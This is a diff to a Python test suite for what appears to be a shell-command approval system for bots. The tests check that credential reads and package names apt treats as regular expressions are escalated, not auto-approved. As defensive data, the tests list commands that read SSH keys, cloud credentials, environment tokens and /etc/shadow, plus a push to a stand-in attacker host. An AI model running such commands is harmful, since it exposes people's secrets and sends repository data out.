@@ -147,6 +147,22 @@ async def test_secret_reads_are_not_covered_by_an_approval_for_workspace_writes(
         assert esc["risk"] == "network", esc
 
 
+SECRET_READS = ["cat ~/.ssh/id_rsa", "printenv AWS_SECRET_ACCESS_KEY", "cat /proc/1/environ", "echo $GITHUB_TOKEN",
+                "env", "git hash-object ~/.ssh/id_rsa", "git hash-object -w /etc/shadow",
+                "git hash-object -w --stdin < ~/.aws/credentials", "git commit -F ~/.ssh/id_ed25519"]
+
+
+async def test_a_bot_wide_star_up_to_system_on_the_host_never_covers_a_secret_read(harness: Harness) -> None:
+    token = await harness.add_bot()
+    await _approve(harness, pattern="*", max_risk="system", host_ok=True)
+    await _approve(harness, pattern="cat", max_risk="system", host_ok=True)
+    for command in ("cat README.md", "git hash-object src/main.py", "git commit -F msg.txt", "printenv PATH"):
+        await auto(harness, token, command=command, contained=False)
+    for command in SECRET_READS:
+        esc = await asks_then_withdraw(harness, token, command=command, contained=False)
+        assert esc["risk"] == "network" and any(r["rule"] == "secret-read" for r in esc["reasons"]), esc
+
+
 async def test_a_pattern_that_names_the_meaning_changing_words_covers_them(harness: Harness) -> None:
     token = await harness.add_bot()
     await _approve(harness, pattern="pip install", max_risk="network")
@@ -223,12 +239,16 @@ def _approval(pattern: str, max_risk: str = "system") -> StandingApproval:
     ("git push", "git push origin main~5", False),
     ("git push", "git push https://evil.example/x main", False),
     ("git push", "git push origin -- --force", False),
-    ("apt-get install", "apt-get install -yq --no-install-recommends jq g++ python3.11", True),
+    ("apt-get install", "apt-get install -yq --no-install-recommends jq libc6-dev", True),
+    ("apt-get install", "apt-get install -yq --no-install-recommends jq g++ python3.11", False),
     ("apt-get install", "apt-get install -y -f", False),
     ("apt-get install", "apt-get install -y jq:i386", False),
     ("apt-get install", "apt-get install -y bash_", False),
     # apt reads a name with . or + that no package has as an unanchored regular expression
-    ("apt-get install", "apt-get install -y libc++-dev libstdc++6 libgtk2.0-0", True),
+    ("apt-get install", "apt-get install -y libc++-dev libstdc++6 libgtk2.0-0", False),
+    ("apt-get install", "apt-get install -y python3.1", False),
+    ("apt-get install -y python3.11", "apt-get install -y python3.11", True),
+    ("apt-get install -y python3.11", "apt-get install -y python3.1", False),
     ("apt-get install", "apt-get install -y lib.", False),
     ("apt-get install", "apt-get install -y x.+", False),
     ("apt-get install", "apt-get install -y zlib1g.", False),
@@ -399,10 +419,15 @@ async def test_host_approvals_do_not_look_through_wrapper_options_that_change_ho
 async def test_a_host_apt_get_install_approval_does_not_cover_names_apt_reads_as_regular_expressions(harness: Harness) -> None:
     token = await harness.add_bot()
     await _approve(harness, pattern="apt-get install", max_risk="system", host_ok=True)
-    await auto(harness, token, command="sudo apt-get install -y g++ python3.11 libc++-dev", contained=False)
+    await auto(harness, token, command="sudo apt-get install -y jq libc6-dev", contained=False)
     for command in ("apt-get install -y lib.", "apt-get install -y zlib1g.", "apt-get install -y x.+",
-                    "sudo apt-get install -y libcurl4-gnutls-de.", "apt-get install -y g+"):
+                    "sudo apt-get install -y libcurl4-gnutls-de.", "apt-get install -y g+", "apt-get install -y python3.1",
+                    "apt-get install -y python3.11", "apt-get install -y g++"):
         await asks_then_withdraw(harness, token, command=command, contained=False)
+    # a name with . or + is covered only by a pattern that names it, which covers nothing else
+    await _approve(harness, pattern="apt-get install -y python3.11", max_risk="system", host_ok=True)
+    await auto(harness, token, command="sudo apt-get install -y python3.11", contained=False)
+    await asks_then_withdraw(harness, token, command="apt-get install -y python3.1", contained=False)
 
 
 async def test_git_push_is_not_covered_after_a_cd_nor_after_a_remote_is_pointed_at_a_local_repository(harness: Harness, ws: Path) -> None:
